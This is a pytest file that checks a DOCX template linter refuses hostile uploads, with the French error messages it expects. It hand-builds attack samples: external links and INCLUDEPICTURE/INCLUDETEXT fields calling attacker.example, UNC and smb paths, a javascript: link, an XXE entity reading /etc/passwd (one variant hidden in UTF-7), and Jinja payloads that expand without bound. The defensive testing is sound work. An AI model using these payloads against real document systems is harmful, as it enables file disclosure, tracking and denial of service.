"""Uploaded DOCX templates that reach outside the document, declare a DTD in any part, or expand without
bound are refused (issue 15, point 5a). Every hostile file is built here, by hand."""

from __future__ import annotations

import base64
import io
import re
import time
import zipfile

import pytest
from docx import Document

from cnum_shared.core.parameters import parameters
from conventions.adapters.document_context import SAMPLE_DATA, template_context
from conventions.adapters.documents import (
    RenderLimitExceeded,
    TemplateNotDocx,
    render_docx,
)
from conventions.adapters.template_lint import lint_template

TREE = parameters()

RELS = "word/_rels/document.xml.rels"
RELATIONSHIPS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_with(body_text: str) -> bytes:
    document = Document()
    for line in body_text.splitlines():
        document.add_paragraph().add_run(line)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def rezip(content: bytes, replace: dict[str, bytes]) -> bytes:
    replace = dict(replace)
    output = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(output, "w") as target:
        for member in source.infolist():
            target.writestr(
                member, replace.pop(member.filename, None) or source.read(member), zipfile.ZIP_DEFLATED
            )
        for name, data in replace.items():
            target.writestr(name, data, zipfile.ZIP_DEFLATED)
    return output.getvalue()


def read(content: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name).decode("utf-8")


def with_relationship(kind: str, target: str, external: bool = True, template: bytes | None = None) -> bytes:
    """A valid template whose document part declares one more relationship (rId900)."""
    template = template or docx_with("Nom : {{ structure.name }}")
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="rId900" Type="{kind}" Target="{target}"{mode}/>'
    rels = read(template, RELS).replace("</Relationships>", relationship + "</Relationships>")
    return rezip(template, {RELS: rels.encode("utf-8")})


def linked_image_template() -> bytes:
    """A template showing an image that Word fetches from a server on opening (`r:link`, no embed)."""
    template = with_relationship(f"{OFFICE}/image", "http://attacker.example/pixel.png")
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="pixel"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="1" name="pixel"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:link="rId900"/></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
    body = read(template, "word/document.xml")
    body = body.replace("</w:p>", drawing + "</w:p>", 1)
    return rezip(template, {"word/document.xml": body.encode("utf-8")})


# --- External relationships -------------------------------------------------------------------------------


def test_a_template_with_a_linked_external_image_is_refused_naming_the_part_and_the_relationship():
    template = linked_image_template()

    with pytest.raises(TemplateNotDocx) as refused:
        lint_template(template, "convention")

    assert str(refused.value) == (
        "La partie word/_rels/document.xml.rels déclare la relation rId900 (image, cible "
        "« http://attacker.example/pixel.png ») : une ressource chargée hors du document (relation externe) "
        "est interdite. Le modèle est refusé."
    )
    with pytest.raises(TemplateNotDocx, match="rId900"):
        render_docx(template, template_context("convention", SAMPLE_DATA["convention"], tree=TREE))


@pytest.mark.parametrize(
    ("kind", "target", "external", "named"),
    [
        (f"{OFFICE}/oleObject", "embeddings/oleObject1.bin", False, "un objet OLE est interdit"),
        (f"{OFFICE}/package", "embeddings/sheet.xlsx", False, "un document incorporé (package) est interdit"),
        (f"{OFFICE}/attachedTemplate", "file:///C:/modeles/Normal.dotm", True, "un modèle attaché"),
        (f"{OFFICE}/attachedTemplate", "http://attacker.example/t.dotm", True, "un modèle attaché"),
        (f"{OFFICE}/subDocument", "http://attacker.example/part.docx", True, "un sous-document"),
        (f"{OFFICE}/frame", "http://attacker.example/frame.html", True, "un cadre"),
        (f"{OFFICE}/aFChunk", "afchunk.htm", False, "un contenu importé (altChunk)"),
        (f"{OFFICE}/hyperlink", "file:///C:/Windows/System32/calc.exe", True, "lien vers un fichier"),
        (f"{OFFICE}/hyperlink", "\\\\attacker.example\\partage\\fichier.docx", True, "lien vers un fichier"),
        (f"{OFFICE}/hyperlink", "smb://attacker.example/partage", True, "lien vers un fichier"),
        (f"{OFFICE}/hyperlink", "javascript:alert(1)", True, "lien vers un fichier"),
        (f"{OFFICE}/hyperlink", "../../secret.docx", True, "lien vers un fichier"),
        (f"{OFFICE}/oleObject", "http://attacker.example/o.bin", True, "un objet OLE"),
    ],
    ids=[
        "ole-embedded",
        "package",
        "attached-template-file",
        "attached-template-http",
        "subdocument",
        "frame",
        "altchunk",
        "hyperlink-file",
        "hyperlink-unc",
        "hyperlink-smb",
        "hyperlink-javascript",
        "hyperlink-relative",
        "ole-linked",
    ],
)
def test_a_template_reaching_outside_the_document_is_refused(kind, target, external, named):
    template = with_relationship(kind, target, external)

    with pytest.raises(TemplateNotDocx) as refused:
        lint_template(template, "convention")

    message = str(refused.value)
    assert message.startswith(
        f"La partie {RELS} déclare la relation rId900 ({kind.rpartition('/')[2]}, cible"
    )
    assert named in message and message.endswith("Le modèle est refusé.")


@pytest.mark.parametrize(
    "target", ["https://www.legifrance.gouv.fr/jorf/id/JORFTEXT000043347474", "mailto:cnum@example.fr"]
)
def test_a_plain_web_or_mail_hyperlink_is_accepted(target):
    template = with_relationship(f"{OFFICE}/hyperlink", target)

    assert lint_template(template, "convention") == []


def test_a_relationships_part_is_checked_whatever_its_name():
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELATIONSHIPS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    template = rezip(docx_with("{{ structure.name }}"), {"word/_rels/settings.xml.rels": rels.encode()})

    with pytest.raises(TemplateNotDocx, match=r"La partie word/_rels/settings\.xml\.rels .*attachedTemplate"):
        lint_template(template, "convention")


def test_a_field_that_fetches_an_outside_picture_is_refused():
    template = docx_with("{{ structure.name }}")
    body = read(template, "word/document.xml")
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://attacker.example/p.png" \\d '
        "</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    template = rezip(template, {"word/document.xml": body.replace("</w:p>", field + "</w:p>", 1).encode()})

    with pytest.raises(
        TemplateNotDocx, match=r"La partie word/document\.xml contient un champ INCLUDEPICTURE"
    ):
        lint_template(template, "convention")


# --- DTDs in any part -------------------------------------------------------------------------------------


DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    ("part", "encoding"),
    [
        ("word/custom.xml", "utf-8"),
        ("customXml/item1.bin", "utf-8"),  # not named .xml: still XML, still refused
        ("[Content_Types].xml", "utf-8"),
        ("_rels/.rels", "utf-8"),
        ("word/notes.dat", "utf-16"),
    ],
    ids=["custom-xml", "bin-extension", "content-types", "rels", "utf16-other-extension"],
)
def test_a_dtd_in_any_part_of_the_package_is_refused(part, encoding):
    template = docx_with("{{ structure.name }}")
    with zipfile.ZipFile(io.BytesIO(template)) as archive:
        original = archive.read(part).decode("utf-8") if part in archive.namelist() else "<x>&e;</x>"
    body = re.sub(r"^<\?xml[^>]*\?>\s*", "", original)
    xml = f'<?xml version="1.0" encoding="{encoding.upper()}"?>{DTD}{body}'.encode(encoding)
    hostile = rezip(template, {part: xml})

    with pytest.raises(TemplateNotDocx) as refused:
        lint_template(hostile, "convention")

    assert str(refused.value) == (
        f"L'élément {part} contient une déclaration DOCTYPE ou ENTITY, qu'un document Word ne contient "
        "jamais : le document est refusé."
    )


def test_a_dtd_hidden_by_utf7_is_found_by_the_parser():
    # In UTF-7 the DOCTYPE is base64 between "+" and "-": no byte pattern shows it, libxml2 reads it.
    hidden = base64.b64encode(DTD.encode("utf-16-be")).rstrip(b"=")
    xml = b'<?xml version="1.0" encoding="UTF-7"?>+' + hidden + b"-<x>&e;</x>"
    assert b"DOCTYPE" not in xml
    hostile = rezip(docx_with("{{ structure.name }}"), {"word/custom.xml": xml})

    with pytest.raises(TemplateNotDocx, match=r"L'élément word/custom\.xml contient une déclaration DOCTYPE"):
        lint_template(hostile, "convention")


# --- Bounded rendering ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (
            "{% for i in range(100000) %}{% for j in range(100000) %}{{ structure.name * 1000 }}{% endfor %}"
            "{% endfor %}",
            "millions de caractères",
        ),
        (
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
            "dépasse 2 secondes",
        ),
        ("{{ 'x' * 100000000 }}", "une répétition"),
        ("{{ structure.name|center(1000000000) }}", "un argument"),
        ("{{ '%999999999s' % structure.name }}", "un format"),
        ("{{ '{:>999999999}'.format(structure.name) }}", "un format"),
        ("{{ range(100000)|join('x' * 900000) }}", "un assemblage"),
        ("{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "récursion"),
    ],
    ids=[
        "nested-loop-output",
        "nested-loop-silent",
        "repeat",
        "center",
        "percent",
        "format",
        "join",
        "recursion",
    ],
)
def test_a_template_that_expands_without_bound_is_refused_quickly(body, words, monkeypatch):
    from conventions.adapters import documents

    monkeypatch.setattr(documents, "MAX_RENDER_SECONDS", 2.0)
    template = docx_with(body)
    started = time.monotonic()

    with pytest.raises(RenderLimitExceeded, match=words):
        render_docx(template, template_context("convention", SAMPLE_DATA["convention"], tree=TREE))
    problems = lint_template(template, "convention")

    assert time.monotonic() - started < 30
    assert len(problems) == 1 and problems[0].startswith("Le rendu d'essai avec des données d'exemple échoue")
    assert words in problems[0]


def test_a_field_written_by_jinja_is_found_in_the_trial_rendering():
    template = docx_with("{{ structure.name }}")
    body = read(template, "word/document.xml")
    field = (
        '<w:r><w:instrText xml:space="preserve"> {{ "INCLUDE" ~ "TEXT" }} "http://attacker.example/x" '
        "</w:instrText></w:r>"
    )
    template = rezip(template, {"word/document.xml": body.replace("</w:p>", field + "</w:p>", 1).encode()})

    problems = lint_template(template, "convention")

    assert problems == [
        "Le document rendu à l'essai est refusé : La partie word/document.xml contient un champ INCLUDETEXT, "
        "qui charge un contenu extérieur au document : le modèle est refusé."
    ]
